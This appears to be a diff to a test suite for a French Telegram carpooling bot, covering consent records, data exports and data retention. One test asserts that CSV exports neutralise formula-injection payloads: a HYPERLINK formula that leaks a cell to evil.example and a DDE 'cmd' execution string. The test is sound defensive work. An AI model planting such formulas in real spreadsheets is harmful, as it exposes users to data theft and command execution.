@@ -34,6 +34,7 @@ async def registered_by_phone(
         await operator.send("mardi")
         await operator.press("🏁 Arriver avant une heure")
         await operator.send("9h")
+        await operator.press("➡️ Pas de retour")
         await operator.press("🩺 Santé")
         await operator.press("Aucun")
         await operator.press("✅ Chercher un conducteur")
@@ -134,8 +135,9 @@ async def test_without_the_sensitive_part_the_purpose_and_special_needs_are_not_
     await paul.send("Figeac")
     await paul.send("mardi")
     await paul.press("🏁 Arriver avant une heure")
-    mark = paul.mark()
     await paul.send("9h")
+    mark = paul.mark()
+    await paul.press("➡️ Pas de retour")
     said = paul.texts_since(mark)
     assert any("je ne vous les demande pas" in text for text in said)
     assert "Pour quoi" not in "".join(said) and "🎯 Autre" in paul.last().text
@@ -261,8 +263,9 @@ async def test_my_data_is_a_file_and_a_readable_summary(bot: RunningBot) -> None
     assert introduction["you_were"] == "passenger" and introduction["with_whom"] == "Jean Martin"
     assert introduction["status"] == "accepted"
     assert [(c["topic"], c["given_through"]) for c in data["consents"]] == [
-        ("need", "you"), ("health", "you"),
-    ]  # fmt: skip
+        ("need", "you"),
+        ("health", "you"),
+    ]
     assert data["trips"] == []
     assert "offer" in data["drafts"][0]  # /proposer, begun
     # Nothing of Jean's but what Marie was given when he accepted.
@@ -404,8 +407,9 @@ async def test_old_needs_lose_their_details_and_inactive_people_are_asked_then_f
     await bot.later(days=31)
     [person] = await bot.rows("SELECT display_name, forgotten_at FROM people WHERE id = 1")
     assert person["forgotten_at"] and person["display_name"] == ""
-    [olga_row] = await bot.rows("SELECT forgotten_at FROM people WHERE telegram_user_id = ?",
-                                olga.id)  # fmt: skip
+    [olga_row] = await bot.rows(
+        "SELECT forgotten_at FROM people WHERE telegram_user_id = ?", olga.id
+    )
     assert olga_row["forgotten_at"] is None
     bot.assert_clean()
 
@@ -475,6 +479,7 @@ async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
     trips = next(
         m for m in bot.operators.messages() if m.document and "trips" in m.document.filename
     )
+    assert trips.document is not None
     content = trips.document.content.decode("utf-8-sig")
     assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in content
     assert "'=cmd|' /C calc'!A0" in content
@@ -484,8 +489,14 @@ async def test_exports_neutralise_formulas(bot: RunningBot) -> None:
 
     cells = csv_bytes([{"a": v} for v in ("+plus", "-minus", "@at", "\tTab", "\rCR", "ok", -3)])
     assert cells.decode("utf-8-sig").split("\r\n")[1:-1] == [
-        "'+plus", "'-minus", "'@at", "'\tTab", "\"'\rCR\"", "ok", "-3",
-    ]  # fmt: skip
+        "'+plus",
+        "'-minus",
+        "'@at",
+        "'\tTab",
+        '"\'\rCR"',
+        "ok",
+        "-3",
+    ]
     bot.assert_clean()
 
 
@@ -658,8 +669,10 @@ async def test_retention_unlinks_old_needs_and_introductions_from_people(bot: Ru
     assert need["anonymised_at"] and need["person_id"] not in (1, 2)
     [introduction] = await bot.rows("SELECT driver_id, passenger_id, status FROM introductions")
     assert introduction == {
-        "driver_id": nobody["id"], "passenger_id": nobody["id"], "status": "accepted",
-    }  # fmt: skip
+        "driver_id": nobody["id"],
+        "passenger_id": nobody["id"],
+        "status": "accepted",
+    }
     assert await bot.rows("SELECT * FROM need_events WHERE actor_id IS NOT NULL") == []
     await marie.command("mesdonnees")
     assert "🙋 Demandes (avec leur historique) : 0" in marie.messages()[-2].text
